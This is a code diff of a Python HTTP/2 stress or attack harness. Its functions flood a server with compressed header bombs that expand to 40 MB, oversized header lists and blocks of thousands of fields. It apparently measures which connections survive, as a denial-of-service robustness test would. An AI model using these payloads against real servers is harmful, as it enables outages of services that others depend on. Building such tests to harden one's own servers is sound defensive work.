@@ -54,16 +54,16 @@ def asked(stream_id: int, method: str, body: bytes = b"") -> bytes:
     return opened(stream_id, method) + frame(DATA, END_STREAM, stream_id, message(body))
 
 
-async def storm(address: str, frames: Iterable[bytes], first: bytes = b"") -> Endings:
+async def storm(address: str, frames: Iterable[bytes], first: bytes = b"", share: int = SHARE) -> Endings:
     """Sends all of them, over as many connections as it takes; one that is still alive a while after its share
     counts as "alive"."""
     endings: Endings = Counter()
     rest = iter(frames)
-    while share := list(islice(rest, SHARE)):
+    while part := list(islice(rest, share)):
         async with attacker(address) as one:
             await one.send(first)
-            for start in range(0, len(share), BURST):
-                if not await one.send(b"".join(share[start : start + BURST])):
+            for start in range(0, len(part), BURST):
+                if not await one.send(b"".join(part[start : start + BURST])):
                     break
             endings[await last_word(one)] += 1
     return endings
@@ -120,20 +120,20 @@ async def continuations(address: str, size: int) -> Endings:
 async def header_bomb(address: str, size: int) -> Endings:
     """`size` blocks that unfold to 40 MB each: one entry of 4 KB, named ten thousand times."""
     entry = b"\x40\x01a\x7f\x81\x1e" + b"b" * 3_968
-    return await storm(address, (frame(HEADERS, 5, 1, entry + b"\xbe" * 10_000) for _ in range(size)))
+    return await storm(address, (frame(HEADERS, 5, 1, entry + b"\xbe" * 10_000) for _ in range(size)), share=1)
 
 
 async def huge_header_list(address: str, size: int) -> Endings:
     """`size` blocks with one value of 15 KB more than may be, in the frames it takes."""
     block = call(LIST, (b"x-huge", b"v" * 31_000))
     whole = frame(HEADERS, END_STREAM, 1, block[:16_000]) + frame(CONTINUATION, END_HEADERS, 1, block[16_000:])
-    return await storm(address, (whole for _ in range(size)))
+    return await storm(address, (whole for _ in range(size)), share=1)
 
 
 async def many_headers(address: str, size: int) -> Endings:
     """`size` blocks with four thousand tiny fields."""
     block = call(LIST) + b"\x00\x01a\x01b" * 3_000
-    return await storm(address, (frame(HEADERS, 5, 1, block) for _ in range(size)))
+    return await storm(address, (frame(HEADERS, 5, 1, block) for _ in range(size)), share=1)
 
 
 async def each(address: str, size: int, work: Callable[[Attacker], Awaitable[None]], **options: bytes) -> Endings:
